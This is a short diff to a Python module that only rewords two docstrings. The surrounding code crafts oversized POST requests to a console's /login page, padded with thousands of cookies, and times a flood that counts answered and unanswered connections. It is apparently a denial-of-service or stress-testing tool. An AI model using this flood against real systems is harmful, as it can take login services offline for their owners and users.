@@ -18,7 +18,7 @@ _PIECES = b"&a%=1" * 20
 
 
 def posts(address: str) -> tuple[bytes, ...]:
-    """Return the most expensive posts to the console's sign-in that are read completely."""
+    """Return the most expensive posts to the console's sign-in that are still read completely."""
     origin = f"Host: {address}\r\nOrigin: http://{address}\r\n"
     cookies = f"Cookie: {'a=;' * 4_000}\r\n"
     lengths = (f"POST /login HTTP/1.1\r\n{origin}{cookies}Content-Length: {len(body)}\r\n\r\n".encode() + body for body in (
@@ -31,7 +31,7 @@ def posts(address: str) -> tuple[bytes, ...]:
 
 
 async def flood(address: str, seconds: float) -> Counter[str]:
-    """Return how many answers of each status a flood of that many seconds got, and how many connections got none."""
+    """Return how many answers of each status a flood of so many seconds got, and how many connections got none."""
     with ProcessPoolExecutor(1, mp_context=multiprocessing.get_context("spawn")) as pool:
         return await asyncio.get_running_loop().run_in_executor(pool, _flood, address, seconds)
 
